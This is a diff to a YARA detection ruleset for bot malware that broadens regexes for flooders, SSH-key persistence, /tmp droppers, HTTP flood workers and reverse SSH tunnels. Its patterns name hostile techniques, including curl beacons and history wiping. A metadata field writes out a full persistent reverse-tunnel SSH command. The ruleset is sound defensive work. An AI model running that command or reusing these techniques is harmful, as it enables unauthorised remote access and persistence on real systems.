@@ -918,7 +918,7 @@ rule bot_perl_flooder_scanner : bot
         $dl = /\btime\s{0,2}(\(\s{0,2}\))?\s{0,4}\+\s{0,4}\(?\s{0,4}\$\w{1,20}|\btime\.time\s{0,2}\(\s{0,2}\)\s{0,4}\+\s{0,4}[a-zA-Z_(]/
         // a connection opened per round, or a packet to a random port
         $cr = /IO::Socket::INET\s{0,4}->\s{0,2}new\s{0,2}\(\s{0,2}PeerAddr[^\n]{0,120}(Blocking\s{0,4}=>\s{0,4}0|Proto\s{0,4}=>\s{0,4}['"]udp)/
-        $rp = /\b(int\s{0,2}\(\s{0,2}rand\s{0,2}\(\s{0,2}6553[0-9]|random\.randint\s{0,2}\(\s{0,2}[0-9]{1,4}\s{0,2},\s{0,2}6553[0-9])/
+        $rp = /\b(int\s{0,2}\(\s{0,2}rand\s{0,2}\(\s{0,2}6553[0-9]|random\.(randint|randrange)\s{0,2}\(\s{0,2}[0-9]{1,4}\s{0,2},\s{0,2}6553[0-9])/
     condition:
         filesize < 1MB and not hs_doc_file and (hs_lang_perl or hs_lang_python) and
         any of ($n*) and any of ($s*) and $r1 and $lp and
@@ -1416,7 +1416,7 @@ rule bot_sshkey_persistence : bot
         // other accounts' or root's files, a beacon home, a web script, history wiped
         $hs1 = /\btouch\s{1,4}(-[acm]{1,3}\s{1,4})?-[rtd]\s/
         $hs2 = "/root/.ssh" ascii
-        $hs3 = /\/home\d?\/\*|["']?\$\{?\w{1,30}\}?\/\.ssh\/authorized_keys|\$\w{1,30}\s{0,2}\.\s{0,2}['"]\/\.ssh\//
+        $hs3 = /\/home\d?\/\*|\/etc\/passwd|\$\w{1,30}\s{0,2}\.\s{0,2}['"]\/\.ssh\//
         $hs4 = /\b(curl|wget)\s[^\n]{0,200}\$\(\s{0,2}(hostname|id|whoami|uname)\b/
         $hs5 = /<\?php|\bhistory\s{1,4}-c\b|\bunset\s{1,4}HISTFILE\b/
         $hs6 = /\bos\.path\.join\s{0,2}\(\s{0,2}[a-z_]\w{0,30}\s{0,2},\s{0,2}['"](\.ssh\/)?authorized_keys['"]/
@@ -1474,7 +1474,7 @@ rule bot_dropper_tmp_exec : bot
         $f = /\b(wget|curl|fetch|tftp|ftpget|lwp-download)\s{1,4}[-"'$\w]|\b(file_get_contents|copy|fopen|curl_init)\s{0,2}\(\s{0,2}(['"](https?|ftp):\/\/|\$\w{1,30}\s{0,2}[,)])|\b(urlopen|urlretrieve|getstore|mirror)\s{0,2}\(|\brequests\.get\s{0,2}\(|:content_file\b|\bhttps?\.get\s{0,2}\(\s{0,2}['"`]|\bLWP::UserAgent\b|\bHTTP::Tiny\b|\bLWP::Simple\b/
         $tm = /\/(tmp|var\/tmp|dev\/shm)\b|\bsys_get_temp_dir\s{0,2}\(|\btempfile\.|\bmktemp\b|\btmpdir\s{0,2}\(\s{0,2}\)/
         // shell chmod +x / 755, PHP chmod($f, 0755), Perl chmod 0755, $f, os.chmod(p, 0o755 | S_IEXEC)
-        $cx = /\bchmod\s{1,4}(-R\s{1,4})?(\+x|[ugoa]{1,3}\+[rw]{0,2}x|0?[0-7]?[1357][0-7]{2})\b|\bchmod\s{0,2}\(\s{0,2}[^,\n]{1,80},\s{0,2}0?[0-7]?[1357][0-7]{2}\s{0,2}\)|\bos\.chmod\s{0,2}\([^\n]{1,120}(0o?[0-7]?[1357][0-7]{2}\b|S_IX|S_IEXEC|S_IRWX[UGO]|\b(493|511|365)\b)|\bchmodSync\s{0,2}\([^\n]{1,80}(0o[0-7]?[1357][0-7]{2}\b|\b(493|511)\b)|\bcreateWriteStream\s{0,2}\([^\n)]{1,80}\bmode\s{0,2}:\s{0,2}(0o[0-7]?[1357][0-7]{2}\b|(493|511)\b)/
+        $cx = /\bchmod\s{1,4}(-R\s{1,4})?(\+x|[ugoa]{1,3}\+[rw]{0,2}x|0?[0-7]?[1357][0-7]{2})\b|\bchmod\s{0,2}\(\s{0,2}[^,\n]{1,80},\s{0,2}0?[0-7]?[1357][0-7]{2}\s{0,2}\)|\bos\.chmod\s{0,2}\([^\n]{1,120}(0o?[0-7]?[1357][0-7]{2}\b|S_IX|S_IEXEC|S_IRWX[UGO]|\b(493|511|365)\b)|\bchmodSync\s{0,2}\([^\n]{1,80}(0o[0-7]?[1357][0-7]{2}\b|\b(493|511)\b)|\b(createWriteStream|writeFile(Sync)?)\s{0,2}\([^\n)]{1,120}\bmode\s{0,2}:\s{0,2}(0o[0-7]?[1357][0-7]{2}\b|(448|493|511)\b)/
         // started detached: nohup, setsid, Popen, output thrown away, a trailing &
         $rn1 = /\b(nohup|setsid)\s|\bPopen\s{0,2}\(|\bstart_new_session\b|>\s{0,2}\/dev\/null|\bdetached\s{0,2}:\s{0,2}true\b/
         $rn2 = " &\n" ascii
@@ -2940,7 +2940,7 @@ rule bot_http_flood_workers : bot
     strings:
         // Python: an endless loop whose body sends a request
         $pl = /\bwhile\s{1,4}(True|1)\s{0,2}:/
-        $pr = /\b(urlopen|requests\.(get|post|head|request)|httpx\.(get|post|stream)|\.request\s{0,2}\(\s{0,2}['"](GET|POST|HEAD)['"])\s{0,2}\(?/
+        $pr = /\b(urlopen|requests\.(get|post|head|request)|httpx\.(get|post|stream)|\.request\s{0,2}\(\s{0,2}['"](GET|POST|HEAD)['"])\s{0,2}\(?|\b[a-z_]\w{0,20}\.(get|post|head)\s{0,2}\(\s{0,2}[a-zA-Z_]\w{0,30}\s{0,2}[,)+]/
         $prnd = /\brandom\.(choice|randint|random|getrandbits|choices)\s{0,2}\(|\bos\.urandom\s{0,2}\(|\buuid\.uuid4\s{0,2}\(|\bsecrets\.token_\w{1,10}\s{0,2}\(/
         $pex = /\bexcept\b[^\n:]{0,40}:\s{0,4}(\n\s{0,16})?(pass|continue)\b/
         $pw = /\bfor\s{1,4}\w{1,20}\s{1,4}in\s{1,4}range\s{0,2}\([^\n]{0,60}\)\s{0,2}:\s{0,4}(\n\s{0,16})?[\w.]{0,40}(Thread|Process)\s{0,2}\(\s{0,2}target\s{0,2}=/
@@ -3029,9 +3029,9 @@ rule bot_ssh_reverse_tunnel_loop : bot
         technique = "while true; do ssh -o StrictHostKeyChecking=no -N -R 0.0.0.0:20000:localhost:22 -D 127.0.0.1:20001 -i ~/.ssh/.k u@H; sleep 20; done"
         seen = "train6"
     strings:
-        $r22 = /\bssh\s[^\n]{0,300}\s-R\s{0,2}['"]?((0\.0\.0\.0|\*|\[::\])?:)?\d{2,5}:(localhost|127\.0\.0\.1|\[::1\]):22\b/
-        $rd = /\bssh\s[^\n]{0,300}(\s-R\s[^\n]{0,200}\s-D\s|\s-D\s[^\n]{0,200}\s-R\s)/
-        $nk = /StrictHostKeyChecking\s{0,2}=\s{0,2}no\b/
+        $r22 = /\b(auto)?ssh\s[^\n]{0,300}\s-R\s{0,2}['"]?((0\.0\.0\.0|\*|\[::\])?:)?\d{2,5}:(localhost|127\.0\.0\.1|\[::1\]):22\b/
+        $rd = /\b(auto)?ssh\s[^\n]{0,300}(\s-R\s[^\n]{0,200}\s-D\s|\s-D\s[^\n]{0,200}\s-R\s)/
+        $nk = /StrictHostKeyChecking[\s=]{1,3}no\b/
         $lp = /\b(while\s{1,4}(true|:)|until\s{1,4}false)\s{0,2}(;|\n)\s{0,4}do\b|\bautossh\s/
     condition:
         filesize < 128KB and not hs_doc_file and (any of ($r22, $rd)) and $nk and $lp
